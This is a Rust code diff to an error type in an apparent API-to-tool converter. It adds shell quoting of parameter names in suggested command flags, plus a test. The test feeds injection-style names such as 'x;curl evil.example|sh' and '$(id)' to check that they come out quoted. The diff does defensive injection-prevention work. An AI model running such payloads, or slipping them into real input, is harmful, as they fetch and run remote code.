@@ -18,6 +18,9 @@ pub enum LeftOut {
     /// The path cannot be a template.
     #[error("its path cannot be a template: {0}")]
     Path(String),
+    /// It has more parameters than a call could need.
+    #[error("it has more than 256 parameters")]
+    Parameters,
     /// A parameter of the path is not declared.
     #[error("its path has {{{0}}}, which no parameter declares")]
     Undeclared(String),
@@ -27,8 +30,9 @@ pub enum LeftOut {
     /// A parameter names an identity or a credential.
     #[error(
         "its parameter {0:?} names an identity or a credential, which a model must not choose: add \
-         --bind {0}=actor.sub (or actor.tenant, actor.iss) to let the host fill it in, --drop {0} to \
-         send none, or --allow {0} if it is something else"
+         --bind {typed}=actor.sub (or actor.tenant, actor.iss) to let the host fill it in, --drop \
+         {typed} to send none, or --allow {typed} if it is something else",
+        typed = typed(.0)
     )]
     Identity(String),
     /// A bound parameter is in a place that the host does not fill in.
@@ -36,15 +40,17 @@ pub enum LeftOut {
     BoundElsewhere(String),
     /// A member of an argument, or an argument of a remote tool, names an identity or a credential.
     #[error(
-        "its arguments have the member {0:?}, which names an identity or a credential, and a model \
-         must not choose one: add --drop {0} to describe them without it, or --allow {0} if it is \
-         something else"
+        "its body has the member {0:?}, which names an identity or a credential, and a model must \
+         not choose one: add --drop {typed} to describe the body without it, or --allow {typed} if \
+         it is something else",
+        typed = typed(.0)
     )]
     IdentityMember(String),
     /// It needs a header that tools may not set.
     #[error(
-        "it needs the header {0:?}, which a tool may not set: add --drop {0} if the service gets it \
-         otherwise, or can do without it"
+        "it needs the header {0:?}, which a tool may not set: add --drop {typed} if the service gets \
+         it otherwise, or can do without it",
+        typed = typed(.0)
     )]
     Header(String),
     /// It needs a cookie.
@@ -78,4 +84,33 @@ pub enum LeftOut {
         /// The fault.
         why: String,
     },
+}
+
+/// Returns a name as a shell takes it for one word, since people copy what they are told to add.
+fn typed(name: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.-".contains(&byte);
+    if name.bytes().all(plain) && !name.is_empty() {
+        name.to_owned()
+    } else {
+        format!("'{}'", name.replace('\'', r"'\''"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::LeftOut;
+
+    #[test]
+    fn what_people_copy_is_one_word_of_a_shell() {
+        for (name, word) in [
+            ("X-Api.Version_2", "--drop X-Api.Version_2 "),
+            ("x;curl evil.example|sh", "--drop 'x;curl evil.example|sh' "),
+            ("$(id)", "--drop '$(id)' "),
+            ("a'b", r"--drop 'a'\''b' "),
+            ("", "--drop '' "),
+        ] {
+            let told = LeftOut::Header(name.to_owned()).to_string();
+            assert!(told.contains(word), "{name}: {told}");
+        }
+    }
 }
